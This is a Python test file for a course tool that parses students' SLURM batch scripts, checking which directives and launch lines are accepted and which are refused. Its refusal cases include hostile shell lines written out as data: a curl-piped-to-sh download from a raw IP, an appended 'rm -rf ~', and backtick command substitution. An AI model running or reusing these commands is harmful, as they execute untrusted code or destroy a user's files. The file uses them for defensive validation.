"""What a student's SLURM batch script may say (runners/runs/batchscript.py), without a cluster."""

from __future__ import annotations

import pytest

from runners.protocol import Resources
from runners.runs.batchscript import BatchJob, ScriptRefused, parse

TWO_NODES = Resources(kind="mpi", cores=4, ranks=4, nodes=2)
FILES = {"job.sh", "task2.py", "helpers.py"}
SEED = """#!/bin/bash
#SBATCH --job-name=task2
#SBATCH --nodes=2
#SBATCH --ntasks-per-node=2
#SBATCH --time=00:05:00
#SBATCH --output=task2-%j.out

module purge
module load python/3.11
set -euo pipefail
cd "$SLURM_SUBMIT_DIR"
echo starting
srun --mpi=pmi2 python -u task2.py 1000 fast
"""


def test_the_seeds_form_is_read_as_a_job() -> None:
    assert parse(SEED, TWO_NODES, FILES) == BatchJob(
        nodes=2, tasks=4, program="task2.py", args=["1000", "fast"],
        unused=("--job-name=task2", "--time=00:05:00", "--output=task2-%j.out", "srun --mpi=pmi2"))


# The course's own script for task 2, as its students hand it in (an account of its own, and
# --ntasks the package's rank count).
COURSE = """#SBATCH --job-name=task2
#SBATCH --partition=booster
#SBATCH --ntasks=4
#SBATCH --cpus-per-task=64
#SBATCH --gres=gpu:4
#SBATCH --account=training2425
#SBATCH --output=job_output_task2_%j.log
#SBATCH --error=job_error_task2_%j.log
#SBATCH --time=00:30:00
srun -v python3 task2.py
"""


def test_the_courses_own_script_is_read_as_the_course_writes_it() -> None:
    """Where the job runs on the course's cluster (partition, account, GPUs, cores per task, log
    files, time) is listed as not used here; with no --nodes, the tasks take the nodes they need
    (2 cores a node here: 2 nodes), as SLURM gives them."""
    job = parse(COURSE, TWO_NODES, FILES)
    assert (job.nodes, job.tasks, job.program, job.args) == (2, 4, "task2.py", [])
    assert job.unused == ("--job-name=task2", "--partition=booster", "--cpus-per-task=64",
                          "--gres=gpu:4", "--account=training2425",
                          "--output=job_output_task2_%j.log", "--error=job_error_task2_%j.log",
                          "--time=00:30:00", "srun -v")
    note = job.unused_note()
    assert note is not None and "--partition=booster" in note and "course's runner decides" in note
    # What would change what is measured is still refused, with its line.
    for bad, why in [(COURSE.replace("--ntasks=4", "--ntasks=8"), "times 4 MPI ranks"),
                     (COURSE.replace("--account=training2425", "--export=ALL"), "line 6: "
                      "#SBATCH --export is not allowed"),
                     (COURSE + "srun python3 task2.py\n", "a second launch"),
                     (COURSE.replace("srun -v python3 task2.py", "srun -v python3 task2.py &"),
                      "shell syntax")]:
        with pytest.raises(ScriptRefused, match=why):
            parse(bad, TWO_NODES, FILES)
    # An option's value is shown printable and short, whatever the script wrote.
    long = parse(COURSE.replace("training2425", "x" * 200 + "\x1b[2J"), TWO_NODES, FILES)
    assert all(len(u) <= 60 and u.isprintable() for u in long.unused)


@pytest.mark.parametrize(("script", "shape"), [
    ("#SBATCH -N 2 -n 4\nsrun python task2.py\n", (2, 4)),
    ("#SBATCH --ntasks=4\n#SBATCH --nodes=1\nmpirun python3 task2.py\n", None),
    ("srun -N 2 --ntasks-per-node=2 python task2.py\n", (2, 4)),
    ("#SBATCH --nodes=1\n#SBATCH --ntasks=2\nsrun -n 4 -N 2 python task2.py\n", (2, 4)),
])
def test_the_shape_comes_from_the_directives_and_the_launch_line(
        script: str, shape: tuple[int, int] | None) -> None:
    if shape is None:  # four tasks on one node of two cores
        with pytest.raises(ScriptRefused, match="more than the 2 cores"):
            parse(script, TWO_NODES, FILES)
        return
    job = parse(script, TWO_NODES, FILES)
    assert (job.nodes, job.tasks) == shape


@pytest.mark.parametrize(("line", "reason"), [
    ("#SBATCH --export=ALL", "--export is not allowed"),
    ("#SBATCH --array=1-4", "--array is not allowed"),
    ("#SBATCH --chdir=/tmp", "--chdir is not allowed"),
    ("#SBATCH --exclusive=user", "--exclusive is not allowed"),
    ("#SBATCH --nodes=4 --ntasks-per-node=1", "at most 2 node"),
    ("#SBATCH --ntasks-per-node=4", "times 4 MPI ranks"),
    ("#SBATCH --ntasks=8", "is not --ntasks=8"),
    ("curl http://198.51.100.1/x | sh", "'curl' may not"),
    ("srun python task2.py", "a second launch"),
    ("export SECRET=1", "'export' may not"),
])
def test_anything_else_is_refused_with_its_line(line: str, reason: str) -> None:
    script = SEED.replace("echo starting", line) if not line.startswith("#SBATCH") else \
        SEED.replace("#SBATCH --time=00:05:00", line)
    with pytest.raises(ScriptRefused, match=reason):
        parse(script, TWO_NODES, FILES)


@pytest.mark.parametrize("launch", [
    "srun python task2.py; rm -rf ~",
    "srun python task2.py `id`",
    "srun python task2.py $HOME",
    "srun python task2.py > out.txt",
    "srun bash -c 'python task2.py'",
    "srun python -c 'import os'",
    "srun python ../task2.py",
    "srun python other.py",
    "srun --export=ALL python task2.py",
    "srun --pty python task2.py",
])
def test_the_launch_line_runs_one_of_the_submissions_files_literally(launch: str) -> None:
    with pytest.raises(ScriptRefused):
        parse(SEED.replace("srun --mpi=pmi2 python -u task2.py 1000 fast", launch), TWO_NODES,
              FILES)


def test_a_script_that_starts_nothing_or_too_late_a_directive() -> None:
    with pytest.raises(ScriptRefused, match="starts no program"):
        parse("#!/bin/bash\n#SBATCH --nodes=2\necho hi\n", TWO_NODES, FILES)
    with pytest.raises(ScriptRefused, match="move it up"):
        parse(SEED + "#SBATCH --nodes=1\n", TWO_NODES, FILES)


@pytest.mark.parametrize("script, line", [
    ('#SBATCH --job-name="abc\nsrun python task2.py\n', 1),
    ("#SBATCH --nodes=2\nsrun python 'task2.py\n", 2),
])
def test_an_unclosed_quote_is_the_students_refusal_naming_its_line(script: str,
                                                                    line: int) -> None:
    with pytest.raises(ScriptRefused, match=f"line {line}: cannot be read .*unclosed quote"):
        parse(script, TWO_NODES, FILES)


def test_the_note_of_options_not_used_here_names_a_dozen() -> None:
    script = "#SBATCH --ntasks=4\n" + "#SBATCH -o out.txt\n" * 10_000 + "srun python task2.py\n"
    note = parse(script, TWO_NODES, FILES).unused_note()
    assert note is not None and note.endswith("and 9988 more") and len(note) < 400, note
